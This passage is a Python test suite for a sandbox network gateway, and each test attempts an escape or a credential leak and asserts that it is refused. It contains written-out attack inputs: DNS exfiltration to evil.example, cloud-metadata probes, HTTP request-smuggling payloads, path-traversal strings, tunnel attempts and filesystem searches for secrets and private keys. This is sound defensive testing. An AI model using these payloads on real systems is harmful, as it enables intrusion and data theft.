"""Attempts to get out, or to get a secret in. Each test is named after the guarantee that it tries to break."""

import gzip
import ipaddress
import json
import os
import shutil
import socket

from harness import WeirTest, also_as_ordinary_user, main

SECRET = "real-secret-7f3a9c51e2b84d06"

BOUND = f"""
credentials:
  token:
    from: env:TEST_TOKEN
    hosts: [api.test.example]
    inject: {{header: Authorization, format: "Bearer {{secret}}"}}
rules:
  - name: api
    hosts: [api.test.example]
  - name: other
    hosts: [other.test.example]
"""


class Sealed(WeirTest):
    """api.test.example has a credential; other.test.example is allowed; everything else is not."""

    def setUp(self):
        super().setUp()
        self.api = self.https("api.test.example", "other.test.example", "denied.test.example")
        self.other = self.https("other.test.example", "api.test.example", "denied.test.example")
        self.policy(BOUND, api=self.api, other=self.other)
        self.environment["TEST_TOKEN"] = SECRET


@also_as_ordinary_user
class NoOtherWayOut(Sealed):
    """G1"""

    def host_listener(self, family=socket.AF_INET, kind=socket.SOCK_STREAM, address="127.0.0.1"):
        """A socket on the host that nobody inside may reach."""
        listener = socket.socket(family, kind)
        listener.bind((address, 0))
        if kind == socket.SOCK_STREAM:
            listener.listen()
        listener.setblocking(False)
        self.addCleanup(listener.close)
        return listener

    def assert_untouched(self, listener):
        with self.assertRaises(BlockingIOError, msg="somebody inside reached the host"):
            if listener.type == socket.SOCK_STREAM:
                listener.accept()
            else:
                listener.recv(1)

    def test_G1_other_tcp_ports_lead_to_the_gate_only(self):
        listener = self.host_listener()
        done = self.inside(f"""
            seen = {{}}
            for host, port in ((API, {listener.getsockname()[1]}), (API, 22), (API, 8443), ("1.1.1.1", 853),
                               ("10.0.0.1", 5432), ("127.0.0.1", {listener.getsockname()[1]})):
                def talk():
                    with socket.create_connection((host, port), timeout=20) as sock:
                        sock.sendall(b"SSH-2.0-probe\\r\\n\\r\\n")
                        got = sock.recv(4096)
                        assert not got or b"x-weir-verdict" in got.lower(), got
                seen[f"{{host}}:{{port}}"] = failure(talk)
            report(seen=seen)
        """)
        self.assert_untouched(listener)
        self.assertEqual(self.api.requests, [], done)
        self.assertNotIn("timeout", done.report["seen"].values(), "a refusal must come at once\n" + str(done))

    def test_G1_literal_addresses_are_refused(self):
        done = self.inside("""
            report(seen={host: ask(request(path="/latest/meta-data/", host=f"[{host}]" if ":" in host else host),
                                   host=host, tls=False)
                         for host in ("1.1.1.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "100.100.100.200",
                                      "2606:4700::1111", "fd00:ec2::254")})
        """)
        for host, answer in done.report["seen"].items():
            self.assertIsNotNone(answer, f"{host}\n{done}")
            self.assertEqual(answer["status"], 403, f"{host} {answer}\n{done}")
            self.assertTrue(answer["headers"]["x-weir-verdict"].startswith("deny "), answer)
        self.assert_recorded_denial(done, "no_rule", host="169.254.169.254")

    def test_G1_a_literal_address_with_an_allowed_name_in_host_is_refused(self):
        done = self.inside("""
            report(seen={host: ask(request(host=API), host=host, tls=False) for host in ("1.1.1.1", "198.18.77.77")})
        """)
        for host, answer in done.report["seen"].items():
            self.assertIn(answer and answer["status"], (403, 421, None), f"{host}\n{done}")
        self.assertEqual(self.api.requests, [], done)

    def test_G1_loopback_is_the_rooms_own(self):
        """Servers inside can be reached inside; the host's cannot."""
        listener = self.host_listener()
        six = self.host_listener(family=socket.AF_INET6, address="::1")
        done = self.inside(f"""
            seen = [failure(lambda: socket.create_connection((host, port), timeout=20).close())
                    for host, port in (("127.0.0.1", {listener.getsockname()[1]}), ("127.9.9.9", {self.api.port}),
                                       ("localhost", {self.api.port}), ("::1", {six.getsockname()[1]}))]
            with socket.create_server(("127.0.0.1", 3000)) as server:
                with socket.create_connection(("127.0.0.1", 3000), timeout=20) as sock:
                    server.accept()[0].sendall(b"own")
                    own = sock.recv(10).decode()
            report(seen=seen, own=own)
        """)
        self.assertEqual(done.report, {"seen": ["ECONNREFUSED"] * 4, "own": "own"}, done)
        self.assert_untouched(listener)
        self.assertEqual(self.api.connections, 0)

    def test_G1_the_gates_own_port_dialled_directly_gives_nothing(self):
        done = self.inside("""
            ports = set()
            for name in ("/proc/net/tcp", "/proc/net/tcp6"):
                with open(name) as file:
                    for line in list(file)[1:]:
                        fields = line.split()
                        if fields[3] == "0A":
                            ports.add(int(fields[1].split(":")[1], 16))
            seen = {}
            for port in sorted(ports - {53}):
                for host in ("127.0.0.1", "::1"):
                    try:
                        got = ask(request(host=API), host=host, port=port, tls=False)
                        seen[f"{host} {port}"] = got and got["status"]
                    except OSError as error:
                        seen[f"{host} {port}"] = str(error)
            report(seen=seen, ports=sorted(ports))
        """)
        self.assertTrue(done.report["seen"], done)
        for key, status in done.report["seen"].items():
            self.assertIn(status, (None, 400, 403, 421), f"{key}\n{done}")
        self.assertEqual(self.api.connections, 0, done)

    def test_G1_tls_to_a_literal_address_is_refused(self):
        done = self.inside("""
            context = ssl._create_unverified_context()
            def talk(address, name):
                with socket.create_connection((address, 443), timeout=20) as sock:
                    with context.wrap_socket(sock, server_hostname=name) as wire:
                        wire.sendall(request(host=name or address))
                        return wire.recv(65536).decode("latin-1")
            seen = {}
            for address, name in (("1.1.1.1", None), ("1.1.1.1", API), ("169.254.169.254", None), ("::1", API)):
                try:
                    seen[f"{address} {name}"] = talk(address, name)
                except OSError as error:
                    seen[f"{address} {name}"] = f"failed {error}"
            report(seen=seen)
        """)
        for key, answer in done.report["seen"].items():
            self.assertNotIn(" 200 ", answer.split("\r\n")[0], f"{key}\n{done}")
        self.assertEqual(self.api.requests, [], done)

    def test_G1_a_name_that_leads_to_a_private_address_is_refused(self):
        """Without `upstream.resolve`: the host's own name leads to loopback or a private address, which no rule names."""
        name = socket.gethostname()
        try:
            address = socket.gethostbyname(name)
        except OSError:
            self.skipTest("this machine's name has no address")
        if not ipaddress.ip_address(address).is_private or name == "localhost":
            self.skipTest("this machine's name leads to a public address")
        listener = self.host_listener(address="0.0.0.0")
        self.policy(f"rules:\n  - hosts: [{name}]\n    ports: [80, {listener.getsockname()[1]}]\n")
        done = self.inside(f"report(seen=[get('/', host='{name}', tls=False), "
                           f"ask(request(host='{name}:{listener.getsockname()[1]}'), host='{name}', tls=False, "
                           f"port={listener.getsockname()[1]})])")
        for answer in done.report["seen"]:
            self.assert_verdict(answer, 403, "address_not_named", done)
        self.assert_untouched(listener)
        self.assert_recorded_denial(done, "address_not_named")

    def test_G1_udp_fails_at_once_and_is_recorded(self):
        listener = self.host_listener(kind=socket.SOCK_DGRAM)
        running = self.start_python(f"""
            seen = {{}}
            for host, port in (("127.0.0.1", {listener.getsockname()[1]}), ("1.1.1.1", 443), ("8.8.8.8", 123),
                               ("2606:4700::1111", 443)):
                def talk():
                    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sock:
                        sock.settimeout(5)
                        sock.connect((host, port))
                        sock.send(b"knock")
                        sock.recv(100)
                seen[f"{{host}} {{port}}"] = failure(talk)
            report(seen=seen)
            sync("sent")
        """)
        running.reached("sent")
        dropped = running.wait_for_event("packet.dropped", protocol="udp", destination="1.1.1.1", port=443)
        self.assertGreaterEqual(dropped["count"], 1)
        running.go("sent")
        done = running.finish()
        self.assert_untouched(listener)
        for key, failed in done.report["seen"].items():
            self.assertNotIn(failed, (None, "timeout"), f"{key}\n{done}")

    def test_G1_icmp_and_raw_sockets_lead_nowhere(self):
        done = self.inside("""
            def icmp(kind):
                with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
                    sock.settimeout(3)
                    sock.sendto(struct.pack(">BBHHH", 8, 0, 0xf7fd, 1, 1), ("8.8.8.8", 0))
                    sock.recv(100)
            def packet():
                socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
            def sctp():
                with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sock:
                    sock.settimeout(3)
                    sock.connect(("8.8.8.8", 80))
            report(datagram=failure(lambda: icmp(socket.SOCK_DGRAM)), raw=failure(lambda: icmp(socket.SOCK_RAW)),
                   packet=failure(packet), sctp=failure(sctp))
        """)
        self.assertIsNotNone(done.report["datagram"], done)
        self.assertIsNotNone(done.report["raw"], done)
        self.assertIsNotNone(done.report["packet"], done)
        self.assertIsNotNone(done.report["sctp"], done)

    def test_G1_the_room_has_no_link_but_loopback(self):
        done = self.inside("""
            report(links=[name for _, name in socket.if_nameindex()], files=os.listdir("/sys/class/net")
                   if os.path.isdir("/sys/class/net") else ["lo"])
        """)
        self.assertEqual(done.report["links"], ["lo"], done)
        self.assertEqual(done.report["files"], ["lo"], done)

    def test_G1_ipv6_goes_through_the_same_gate(self):
        done = self.inside("""
            addresses = [a[4][0] for a in socket.getaddrinfo(API, 443, socket.AF_INET6, socket.SOCK_STREAM)]
            with socket.create_connection((addresses[0], 443), timeout=20) as sock:
                with ssl.create_default_context().wrap_socket(sock, server_hostname=API) as wire:
                    wire.sendall(request(path="/six"))
                    first = wire.recv(65536).decode("latin-1").split("\\r\\n")[0]
            report(addresses=addresses, first=first)
        """)
        self.assertIn(" 200 ", done.report["first"], done)
        self.assertTrue(done.report["addresses"][0].startswith("fd"), done)
        self.assertTrue(done.of("egress.request", path="/six"), done)

    def test_G1_dns_to_any_server_is_answered_by_weir_alone(self):
        listener = self.host_listener(kind=socket.SOCK_DGRAM)
        done = self.inside("""
            seen = {}
            for server in ("8.8.8.8", "127.0.0.53", "1.1.1.1", "2001:4860:4860::8888", "198.18.0.1"):
                for tcp in (False, True):
                    seen[f"{server} tcp={tcp}"] = [dns_query(API, server=server, tcp=tcp)["rcode"],
                                                   dns_query("example.com", server=server, tcp=tcp)["rcode"]]
            report(seen=seen)
        """)
        for key, codes in done.report["seen"].items():
            self.assertEqual(codes, [0, 5], f"{key}\n{done}")
        self.assertTrue(done.of("dns.query", name="example.com", verdict="refused"), done)
        self.assert_untouched(listener)

    def test_G1_a_subdomain_carries_no_data_out(self):
        done = self.inside("""
            label = "c2VjcmV0LWRhdGE"
            names = [f"{label}.api.test.example", f"{label}.evil.example", f"{label}.{label}.other.test.example"]
            report(codes=[dns_query(name, qtype=kind)["rcode"] for name in names for kind in (1, 28, 16, 15, 65, 255)])
        """)
        self.assertEqual(set(done.report["codes"]), {5}, done)
        refused = [d["name"] for d in done.of("dns.query", verdict="refused")]
        self.assertIn("c2VjcmV0LWRhdGE.evil.example".lower(), [name.lower().rstrip(".") for name in refused], done)

    def test_G1_hostile_dns_bytes_do_no_harm(self):
        done = self.inside("""
            import random
            random.seed(7)
            for n in range(300):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.connect(("8.8.8.8", 53))
                    sock.send(random.randbytes(random.randrange(0, 600)))
                    sock.send(struct.pack(">HHHHHH", n, 0x0100, 1, 0, 0, 0) + b"\\xc0\\x0c" + b"\\0\\1\\0\\1")
            # The flood may have filled the socket's queue: ask as resolvers do, more than once.
            for attempt in range(5):
                try:
                    rcode = dns_query(API, timeout=3)["rcode"]
                    break
                except socket.timeout:
                    rcode = "no answer"
            report(rcode=rcode, status=get("/after")["status"])
        """)
        self.assertEqual(done.report, {"rcode": 0, "status": 200}, done)


@also_as_ordinary_user
class NoSecretInside(Sealed):
    """G2"""

    def test_G2_the_credential_is_injected_and_what_the_client_sent_there_is_dropped(self):
        done = self.inside("""
            report(plain=get("/1")["status"],
                   own=get("/2", headers=[("Authorization", "Bearer mine"), ("authorization", "Basic b3du")])["status"])
        """)
        self.assertEqual(done.report, {"plain": 200, "own": 200}, done)
        for request in self.api.requests:
            self.assertEqual(request.all("authorization"), [f"Bearer {SECRET}"], request.raw_head)
        self.assertEqual([d["credential"] for d in done.of("egress.request")], ["token", "token"], done)

    def test_G2_no_place_inside_holds_the_secret(self):
        done = self.inside("""
            needle = b"real-secret-" + b"7f3a9c51e2b84d06"
            get("/use-it")
            found = []
            if needle in b"\\0".join(k + b"=" + v for k, v in os.environb.items()):
                found.append("environment")
            for entry in os.listdir("/proc"):
                if entry.isdigit():
                    for name in ("environ", "cmdline"):
                        try:
                            with open(f"/proc/{entry}/{name}", "rb") as file:
                                if needle in file.read() and entry != str(os.getpid()):
                                    found.append(f"/proc/{entry}/{name}")
                        except OSError:
                            pass
            for top in ("/etc", "/run", "/tmp", "/home", "/root", os.path.expanduser("~"), os.getcwd(), "/dev/shm"):
                for folder, _, files in os.walk(top):
                    for name in files:
                        path = os.path.join(folder, name)
                        try:
                            if os.path.isfile(path) and not os.path.samefile(path, __file__) \\
                                    and os.path.getsize(path) < 1 << 20:
                                with open(path, "rb") as file:
                                    if needle in file.read():
                                        found.append(path)
                        except OSError:
                            pass
            report(found=found, pids=[p for p in os.listdir("/proc") if p.isdigit()],
                   token=os.environ.get("TEST_TOKEN"))
        """)
        self.assertEqual(done.report["found"], [], done)
        self.assertIsNone(done.report["token"], done)
        self.assertEqual(self.api.requests[0].get("authorization"), f"Bearer {SECRET}")
        self.assertLess(len(done.report["pids"]), 6, "the host's processes are visible\n" + str(done))

    def test_G2_the_event_stream_and_the_errors_do_not_hold_the_secret(self):
        done = self.inside("get('/x'); get('/y', host='other.test.example'); report(ok=True)")
        self.assertNotIn(SECRET, str(done))
        for folder, _, files in os.walk(self.state):
            for name in files:
                with open(os.path.join(folder, name), "rb") as file:
                    self.assertNotIn(SECRET.encode(), file.read(), name)

    def test_G2_a_redirect_to_another_host_does_not_carry_the_credential(self):
        self.api.routes["/moved"] = lambda request, connection: connection.respond(
            302, headers=[("Location", "https://other.test.example/caught")], reason="Found")
        done = self.run_inside("curl", "-sS", "-L", "--location-trusted", "-H", "Authorization: Bearer own",
                               "https://api.test.example/moved")
        self.assertEqual(done.status, 0, done)
        self.assertEqual(self.api.requests[0].get("authorization"), f"Bearer {SECRET}")
        self.assertEqual(self.other.requests[0].all("authorization"), ["Bearer own"])
        self.assertNotIn(SECRET.encode(), self.other.requests[0].raw_head)
        self.assertNotIn(SECRET, done.out)

    def test_G2_the_credential_does_not_go_over_plain_http(self):
        plain = self.http()
        self.policy(BOUND, api=plain, other=self.other)
        done = self.inside("report(answer=get('/', tls=False))")
        for request in plain.requests:
            self.assertNotIn(SECRET.encode(), request.raw_head, done)

    def test_G2_connection_header_cannot_strip_the_injected_header(self):
        done = self.inside("""
            report(statuses=[get("/", headers=[("Connection", value)])["status"]
                             for value in ("Authorization", "close, authorization", "AUTHORIZATION, host")])
        """)
        for request in self.api.requests:
            self.assertEqual(request.all("authorization"), [f"Bearer {SECRET}"], done)
            self.assertEqual(request.all("host"), ["api.test.example"], done)
            for value in request.all("connection"):
                self.assertNotIn("authorization", value.lower(), done)

    def test_G2_a_secret_that_a_server_reflects_is_masked_and_recorded(self):
        def whole(request, connection):
            connection.respond(200, f"you sent {request.get('authorization')}, thanks",
                               headers=[("X-You-Sent", request.get("authorization"))])

        def torn(request, connection):
            """One octet at a time, in chunks and in TLS records of their own."""
            connection.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
            for octet in ("you sent " + request.get("authorization") + ", thanks").encode():
                connection.send(b"1\r\n" + bytes([octet]) + b"\r\n")
            connection.send(b"0\r\n\r\n")

        def trailer(request, connection):
            connection.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n2\r\nok\r\n0\r\nX-T: "
                            + request.get("authorization").encode() + b"\r\n\r\n")

        self.api.routes.update({"/whole": whole, "/torn": torn, "/trailer": trailer})
        done = self.inside("""
            seen = {}
            for path in ("/whole", "/torn", "/trailer"):
                wire = Wire()
                got = wire.send(request(path=path, headers=[("TE", "trailers")])).answer()
                seen[path] = [got.as_dict(), getattr(got, "trailers", [])]
            report(seen=seen)
        """)
        self.assertNotIn(SECRET, done.out, done)
        for path in ("/whole", "/torn"):
            self.assertTrue(done.report["seen"][path][0]["body"].startswith("you sent "), done)
            self.assertTrue(done.report["seen"][path][0]["body"].endswith(", thanks"), done)
        self.assertTrue(done.of("credential.reflected", credential="token"), done)

    def test_G2_a_secret_that_a_server_reflects_compressed_does_not_come_in(self):
        def compressed(request, connection):
            body = f"you sent {request.get('authorization')}".encode()
            if "gzip" in (request.get("accept-encoding") or ""):
                connection.respond(200, gzip.compress(body), headers=[("Content-Encoding", "gzip")])
            else:
                connection.respond(200, body)

        self.api.routes["/compressed"] = compressed
        done = self.inside("""
            import gzip
            got = get("/compressed", headers=[("Accept-Encoding", "gzip, br")])
            body = got["body"].encode("latin-1")
            if got["headers"].get("content-encoding") == "gzip":
                body = gzip.decompress(body)
            report(status=got["status"], body=body.decode("latin-1"))
        """)
        self.assertNotIn(SECRET, done.out, done)

    def test_G2_the_key_of_the_sandbox_authority_is_not_inside(self):
        done = self.inside("""
            found = []
            for top in ("/etc", "/run", "/tmp", "/home", os.path.expanduser("~"), os.getcwd()):
                for folder, _, files in os.walk(top):
                    for name in files:
                        path = os.path.join(folder, name)
                        try:
                            if os.path.getsize(path) < 1 << 20 and not os.path.samefile(path, __file__):
                                with open(path, "rb") as file:
                                    if b"PRIVATE KEY" + b"-----" in file.read():
                                        found.append(path)
                        except OSError:
                            pass
            report(found=[path for path in found if "snakeoil" not in path])
        """)
        self.assertEqual(done.report["found"], [], done)


@also_as_ordinary_user
class OneName(Sealed):
    """G7, G8: SNI, Host and the name behind the address agree, whatever form the request takes."""

    def test_G8_sni_that_differs_from_the_name_is_refused(self):
        done = self.inside("""
            seen = {}
            for sni in ("other.test.example", "denied.test.example"):
                def talk():
                    return ask(request(host=API), sni=sni)
                try:
                    seen[sni] = talk()
                except OSError as error:
                    seen[sni] = {"status": f"handshake failed: {error}"}
            report(seen=seen)
        """)
        for sni, answer in done.report["seen"].items():
            self.assertNotEqual(answer["status"], 200, f"{sni}\n{done}")
            if answer["status"] == 421:
                self.assert_verdict(answer, 421, "sni_mismatch", done)
        self.assertEqual(self.api.requests + self.other.requests, [], done)
        self.assert_recorded_denial(done, "sni_mismatch")

    def test_G8_host_that_differs_from_the_name_is_refused(self):
        done = self.inside("""
            report(seen={host: ask(request(host=host)) for host in
                         ("other.test.example", "denied.test.example", "API.test.example:444", "127.0.0.1",
                          "api.test.example.evil.example")})
        """)
        for host, answer in done.report["seen"].items():
            self.assert_verdict(answer, 421, "host_mismatch", done)
        self.assertEqual(self.api.requests + self.other.requests, [], done)
        self.assert_recorded_denial(done, "host_mismatch")

    def test_G8_host_that_differs_is_refused_on_plain_http_too(self):
        plain = self.http()
        self.policy("rules:\n  - hosts: [plain.test.example, denied.other.example]\n", plain=plain)
        done = self.inside("report(answer=ask(request(host='denied.test.example'), host='plain.test.example', tls=False))")
        self.assert_verdict(done.report["answer"], 421, "host_mismatch", done)
        self.assertEqual(plain.requests, [], done)

    def test_G8_host_in_another_spelling_of_the_same_name_is_the_same(self):
        done = self.inside("""
            report(seen={host: ask(request(host=host))["status"] for host in
                         ("API.TEST.example", "api.test.example.", "api.test.example:443")})
        """)
        self.assertEqual(set(done.report["seen"].values()), {200}, done)
        for request in self.api.requests:
            self.assertEqual(request.all("host"), ["api.test.example"], request.raw_head)

    def test_G8_the_second_request_on_a_connection_is_judged_like_the_first(self):
        done = self.inside("""
            wire = Wire()
            first = wire.send(request()).answer().status
            second = wire.send(request(host="other.test.example")).answer()
            report(first=first, second=second.as_dict())
        """)
        self.assertEqual(done.report["first"], 200, done)
        self.assert_verdict(done.report["second"], 421, "host_mismatch", done)

    def test_G8_absolute_form_to_another_host_is_refused(self):
        done = self.inside("""
            report(seen={target: ask(f"GET {target} HTTP/1.1\\r\\nHost: api.test.example\\r\\n\\r\\n")
                         for target in ("https://other.test.example/", "https://denied.test.example/x",
                                        "http://api.test.example:444/", "https://api.test.example@denied.example/")})
        """)
        for target, answer in done.report["seen"].items():
            self.assertIn(answer and answer["status"], (400, 421, 403), f"{target}\n{done}")
        self.assertEqual(self.api.requests + self.other.requests, [], done)

    def test_G8_absolute_form_to_the_same_host_goes_out_as_origin_form(self):
        done = self.inside("""
            report(answer=ask("GET https://api.test.example/a?b HTTP/1.1\\r\\nHost: api.test.example\\r\\n\\r\\n"))
        """)
        if done.report["answer"]["status"] == 200:
            self.assertTrue(self.api.requests[0].raw_head.startswith(b"GET /a?b HTTP/1.1\r\n"))
        else:
            self.assertEqual(done.report["answer"]["status"], 400, done)

    def test_G8_connect_is_no_way_round(self):
        done = self.inside("""
            seen = {}
            for tls in (True, False):
                for target in ("denied.test.example:443", "127.0.0.1:22", "other.test.example:443"):
                    got = ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n", tls=tls)
                    seen[f"{tls} {target}"] = got and got["status"]
            report(seen=seen)
        """)
        for key, status in done.report["seen"].items():
            self.assertNotIn(status, (200, None), f"{key}\n{done}")
        self.assertEqual(self.api.connections + self.other.connections, 0, done)

    def test_G8_http2_and_unknown_protocols_are_refused_or_judged(self):
        done = self.inside("""
            wire = Wire(alpn=("h2",))
            protocol = wire.sock.selected_alpn_protocol()
            wire.send(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + b"\\0\\0\\0\\4\\0\\0\\0\\0\\0")
            got = wire._fill() and bytes(wire.buffer[:64]).decode("latin-1")
            tls = get("/after")["status"]
            def binary():
                with socket.create_connection((API, 443), timeout=20) as sock:
                    sock.sendall(b"\\x00\\x01binary\\r\\n\\r\\n")
                    assert sock.recv(4096) == b""
            binary = failure(binary)
            with socket.create_connection((API, 443), timeout=20) as sock:
                sock.sendall(request())
                cleartext = sock.recv(4096).decode("latin-1")
            report(protocol=protocol, got=got, tls=tls, binary=binary, cleartext=cleartext)
        """)
        self.assertEqual(done.report["tls"], 200, done)
        self.assertIn(done.report["binary"], (None, "ECONNRESET"), done)
        self.assertNotIn(" 200 ", done.report["cleartext"].split("\r\n")[0], done)
        self.assertNotIn(b"binary", b"".join(self.api.heads()), done)

    def test_G8_websocket_upgrade_is_not_a_tunnel(self):
        done = self.inside("""
            report(answer=get("/ws", headers=[("Connection", "Upgrade"), ("Upgrade", "websocket"),
                   ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]))
        """)
        self.assertNotEqual(done.report["answer"]["status"], 101, done)


@also_as_ordinary_user
class NothingUnread(Sealed):
    """G7: what two parsers could read differently is refused."""

    def refused(self, cases):
        """Sends each of `cases` (name → bytes), followed by a request that must never be seen upstream on its own."""
        self.write("cases.json", json.dumps({name: data.decode("latin-1") for name, data in cases.items()}))
        done = self.inside("""
            seen = {}
            with open("cases.json") as file:
                cases = json.load(file)
            for name, data in cases.items():
                wire = Wire()
                try:
                    got = wire.send(data + "GET /smuggled HTTP/1.1\\r\\nHost: api.test.example\\r\\n\\r\\n").answer()
                    seen[name] = got and got.as_dict()
                    if got and got.status == 400:
                        seen[name]["closed"] = wire.ended()
                except OSError as error:
                    seen[name] = {"status": str(error)}
                wire.close()
            report(seen=seen)
        """)
        for name, answer in done.report["seen"].items():
            with self.subTest(name):
                self.assertIsNotNone(answer, f"{name}: no answer\n{done}")
                self.assertEqual(answer["status"], 400, f"{name}\n{answer}\n{done}")
                self.assertTrue(answer["closed"], f"{name}: the connection stayed open after a malformed message")
                self.assertIn("x-weir-verdict", answer["headers"], answer)
                code = json.loads(answer["body"])["weir"]["code"]
                self.assert_recorded_denial(done, code)
        self.assertEqual(self.api.requests, [], done)
        return done

    def test_G7_smuggling_pairs_are_refused(self):
        head = b"POST / HTTP/1.1\r\nHost: api.test.example\r\n"
        self.refused({
            "CL.TE": head + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "TE.CL": head + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
            "TE.TE": head + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
            "TE xchunked": head + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
            "TE gzip, chunked": head + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
            "TE with a vertical tab": head + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
            "TE on 1.0": b"POST / HTTP/1.0\r\nHost: api.test.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "double CL, different": head + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
            "double CL, same": head + b"Content-Length: 5\r\nContent-Length: 5\r\n\r\nabcde",
            "CL list": head + b"Content-Length: 5, 5\r\n\r\nabcde",
            "CL signed": head + b"Content-Length: +5\r\n\r\nabcde",
            "CL negative": head + b"Content-Length: -1\r\n\r\n",
            "CL hex": head + b"Content-Length: 0x5\r\n\r\nabcde",
            "CL too large": head + b"Content-Length: 99999999999999999999999\r\n\r\n",
        })

    def test_G7_odd_heads_are_refused(self):
        def head(*lines):
            return b"\r\n".join((b"GET / HTTP/1.1", b"Host: api.test.example") + lines) + b"\r\n\r\n"

        self.refused({
            "obs-fold": head(b"X-A: 1", b" 2"),
            "obs-fold with a tab": head(b"X-A: 1", b"\t2"),
            "bare LF": b"GET / HTTP/1.1\nHost: api.test.example\n\n",
            "bare LF between headers": b"GET / HTTP/1.1\r\nHost: api.test.example\nX-A: 1\r\n\r\n",
            "bare CR": head(b"X-A: 1\rX-B: 2"),
            "space before colon": head(b"X-A : 1"),
            "space before colon of TE": head(b"Transfer-Encoding : chunked"),
            "space in a name": head(b"X A: 1"),
            "empty name": head(b": 1"),
            "no colon": head(b"X-A"),
            "NUL": head(b"X-A: 1\x002"),
            "control character": head(b"X-A: 1\x01"),
            "high octet in a name": head(b"X-\xc3\x84: 1"),
            "two Hosts": head(b"Host: api.test.example"),
            "two different Hosts": head(b"Host: other.test.example"),
            "no Host": b"GET / HTTP/1.1\r\nX-A: 1\r\n\r\n",
            "version 1.2": b"GET / HTTP/1.2\r\nHost: api.test.example\r\n\r\n",
            "version 0.9": b"GET /\r\n",
            "two spaces": b"GET  / HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
            "tab in the request line": b"GET\t/ HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
            "space in the target": b"GET /a b HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
            "fragment in the target": b"GET /a#b HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
            "no slash": b"GET a HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
            "leading space": b" GET / HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
        })

    def test_G7_odd_chunks_are_refused(self):
        """The head is good, so a request may have begun upstream; but nothing after the fault gets there."""
        head = "POST /chunks HTTP/1.1\\r\\nHost: api.test.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
        bodies = {"bare LF": "5\\nhello\\r\\n0\\r\\n\\r\\n", "no CRLF after data": "5\\r\\nhello0\\r\\n\\r\\n",
                  "signed size": "+5\\r\\nhello\\r\\n0\\r\\n\\r\\n", "0x size": "0x5\\r\\nhello\\r\\n0\\r\\n\\r\\n",
                  "overflow": "10000000000000005\\r\\nhello\\r\\n0\\r\\n\\r\\n", "empty size": "\\r\\nhello\\r\\n",
                  "space in size": "5 \\r\\nhello\\r\\n0\\r\\n\\r\\n", "bad trailer": "0\\r\\nX Y: 1\\r\\n\\r\\n",
                  "framing in the trailer": "0\\r\\nContent-Length : 5\\r\\n\\r\\n"}
        done = self.inside(f"""
            seen = {{}}
            for name, body in {bodies!r}.items():
                wire = Wire()
                try:
                    wire.send("{head}" + body.encode().decode("unicode_escape")
                              + "GET /smuggled HTTP/1.1\\r\\nHost: api.test.example\\r\\n\\r\\n")
                    got = [wire.answer(), wire.answer()]
                    seen[name] = [a and a.status for a in got]
                except OSError as error:
                    seen[name] = [str(error)]
                wire.close()
            report(seen=seen)
        """.replace("\\\\", "\\"))
        self.assertNotIn("/smuggled", self.api.paths(), done)
        for name, statuses in done.report["seen"].items():
            with self.subTest(name):
                self.assertNotIn(200, statuses, f"{name}\n{done}")

    def test_G7_ambiguous_paths_are_refused_where_a_rule_has_paths(self):
        self.policy(BOUND.replace("hosts: [api.test.example]\n  - name: other",
                                  "hosts: [api.test.example]\n    paths: [\"/open/**\"]\n  - name: other"),
                    api=self.api, other=self.other)
        paths = ["/open/..%2fclosed", "/open/%2e%2e/closed", "/open/../closed", "/open/%00", "/open/%c0%ae%c0%ae/closed",
                 "/open/..;/closed", "/open/%252e%252e/closed", "/open//closed", "/open/..\\\\closed", "/../../open/x",
                 "/open/%zz", "/OPEN/x", "/open/%5c..%5cclosed"]
        done = self.inside(f"""
            report(seen={{path: get(path) for path in {paths!r}}}, fine=get("/open/a%20b/%7Ec?x=%2f..%2f")["status"])
        """)
        for path, answer in done.report["seen"].items():
            with self.subTest(path):
                self.assertIn(answer["status"], (403, 400), f"{path}\n{done}")
        self.assertEqual(done.report["fine"], 200, done)
        self.assertEqual([r.target for r in self.api.requests], ["/open/a%20b/~c?x=%2f..%2f"], done)


@also_as_ordinary_user
class TheHostUntouched(Sealed):
    """G5, G6: nothing of the host's is within reach."""

    def test_G6_sockets_of_the_host_are_out_of_reach(self):
        outside = os.path.join(self.root, "outside.sock")
        shared = os.path.join("/tmp", os.path.basename(self.root) + ".sock")
        abstract = "\0" + os.path.basename(self.root)
        listeners = []
        for address in (outside, shared, abstract):
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(address)
            listener.listen()
            listener.setblocking(False)
            listeners.append(listener)
            self.addCleanup(listener.close)
            if not address.startswith("\0"):
                os.chmod(address, 0o777)
        self.addCleanup(os.unlink, shared)
        done = self.inside(f"""
            def reach(address):
                with socket.socket(socket.AF_UNIX) as sock:
                    sock.settimeout(5)
                    sock.connect(address)
            report(seen=[failure(lambda: reach(address)) for address in {[outside, shared, abstract]!r}],
